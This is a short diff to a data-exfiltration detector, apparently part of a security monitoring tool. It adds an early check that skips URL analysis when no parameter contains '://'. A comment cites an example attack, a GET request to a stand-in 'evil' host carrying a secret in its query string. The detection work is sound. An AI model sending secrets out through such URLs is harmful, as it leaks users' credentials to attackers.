@@ -104,6 +104,9 @@ class DataExfiltration(Detector):
         if not facts.is_write:
             # A "read" that carries data out in its URL (GET https://evil/?k=<secret>):
             # judged like a transfer, but only on strong evidence (the data itself).
+            # "://" cannot span two strings (joined by newlines): test the strings first.
+            if not any("://" in v for _, v in facts.param_strings):
+                return
             text = _params_text(facts)
             if "://" in text:
                 self._catch_up()
